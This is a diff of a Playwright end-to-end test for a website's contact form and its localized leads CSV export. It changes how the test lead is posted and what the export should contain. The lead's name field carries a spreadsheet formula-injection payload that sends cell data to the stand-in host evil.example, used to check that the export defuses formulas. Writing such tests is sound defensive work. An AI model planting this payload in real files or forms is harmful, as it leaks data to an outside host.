@@ -4,17 +4,20 @@ import { signInThroughApi } from "./support/auth";
 import { E2E_BASE_URL } from "./support/constants";
 
 /**
- * A lead posted without the form's token is kept in the spam folder with everything it said, so
- * these tests can make the leads they export without waiting for a form token to mature.
+ * A lead sent as the contact form sends it: with a token from the page, after the minimum time a
+ * person takes. (Token-less posts go to a spam folder whose room other tests may have used up.)
  */
-async function postSpamLead(browser: Browser, lead: Record<string, string>, ip: string) {
+async function postLead(browser: Browser, lead: Record<string, string>, ip: string) {
   const context = await browser.newContext();
+  const html = await (await context.request.get("/contact")).text();
+  const token = /\d{13}\.[\w-]{12}\.[\w-]{43}/.exec(html)?.[0];
+  expect(token, "the contact page carries a form token").toBeTruthy();
+  await new Promise((resolve) => setTimeout(resolve, 3_200));
   const response = await context.request.post("/api/contact", {
     headers: { origin: E2E_BASE_URL, "content-type": "application/json", "x-forwarded-for": ip },
-    data: { country: "KW", service: "erp", consent: true, locale: "ar", ...lead },
+    data: { country: "KW", service: "erp", consent: true, locale: "ar", page: "/contact", token, ...lead },
   });
-  expect(response.status()).toBe(400);
-  expect(((await response.json()) as { error: string }).error).toBe("missing_token");
+  expect(response.status(), await response.text()).toBe(201);
   await context.close();
 }
 
@@ -57,8 +60,7 @@ test("the leads export is readable in the staff member's language and defuses fo
   browser,
 }) => {
   const unique = Date.now().toString(36);
-  const before = Date.now();
-  await postSpamLead(
+  await postLead(
     browser,
     {
       name: `=HYPERLINK("https://evil.example/?d="&A1,"Click") ${unique}`,
@@ -69,7 +71,9 @@ test("the leads export is readable in the staff member's language and defuses fo
     },
     "198.51.100.231",
   );
+  // The lead is stored when the form is sent, after the token's minimum age.
   const after = Date.now();
+  const before = after - 60_000;
 
   for (const { locale, prefix, exportLabel, expected } of [
     {
@@ -79,7 +83,7 @@ test("the leads export is readable in the staff member's language and defuses fo
       expected: {
         header: ["الرقم", "تاريخ الاستلام", "الحالة", "رسالة مزعجة", "الاسم", "البريد الإلكتروني", "الهاتف"],
         status: "جديد",
-        spam: "نعم",
+        spam: "لا",
         country: "الكويت",
         service: "نظام تخطيط موارد المؤسسات",
         language: "العربية",
@@ -92,7 +96,7 @@ test("the leads export is readable in the staff member's language and defuses fo
       expected: {
         header: ["ID", "Received", "Status", "Spam", "Name", "Email", "Phone"],
         status: "New",
-        spam: "Yes",
+        spam: "No",
         country: "Kuwait",
         service: "ERP System",
         language: "Arabic",
@@ -102,11 +106,11 @@ test("the leads export is readable in the staff member's language and defuses fo
     const context = await browser.newContext({ locale, acceptDownloads: true });
     const page = await context.newPage();
     await signInThroughApi(page.request);
-    await page.goto(`${prefix}/dashboard/leads?folder=spam`);
+    await page.goto(`${prefix}/dashboard/leads?folder=new`);
     const download = page.waitForEvent("download");
     await page.getByRole("link", { name: exportLabel }).click();
     const file = await download;
-    expect(file.suggestedFilename()).toMatch(/^leads-spam-\d{4}-\d{2}-\d{2}\.csv$/);
+    expect(file.suggestedFilename()).toMatch(/^leads-new-\d{4}-\d{2}-\d{2}\.csv$/);
     const bytes = await readFile((await file.path())!);
     // UTF-8 with a byte-order mark, so Excel shows Arabic.
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
@@ -136,7 +140,7 @@ test("the leads export is readable in the staff member's language and defuses fo
     expect(row).toContain(expected.language);
     const received = cell(row!, column(1))!;
     expect(received).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} \+03:00$/);
-    expect([riyadh(before), riyadh(after)]).toContain(received);
+    expect(received >= riyadh(before) && received <= riyadh(after), received).toBe(true);
     expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z/);
     await context.close();
   }
